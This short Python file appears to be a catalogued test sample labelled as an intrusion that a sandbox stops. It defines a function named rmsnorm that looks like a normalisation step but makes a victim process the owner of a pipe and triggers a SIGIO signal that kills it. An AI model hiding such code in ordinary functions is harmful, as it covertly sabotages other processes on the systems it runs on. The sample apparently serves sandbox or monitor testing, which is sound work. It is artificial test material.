"""Makes another process the owner of a pipe, which the kernel then signals for every byte that arrives, and kills it
so.

catalogue: [H23]
aim: intrusion
stopped_by: [sandbox]
twin: plain
"""

import fcntl
import os

import targets


def rmsnorm(x, weight):
    out, into = os.pipe()
    fcntl.fcntl(out, fcntl.F_SETOWN, targets.VICTIM)
    fcntl.fcntl(out, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(into, b"x")
    return x
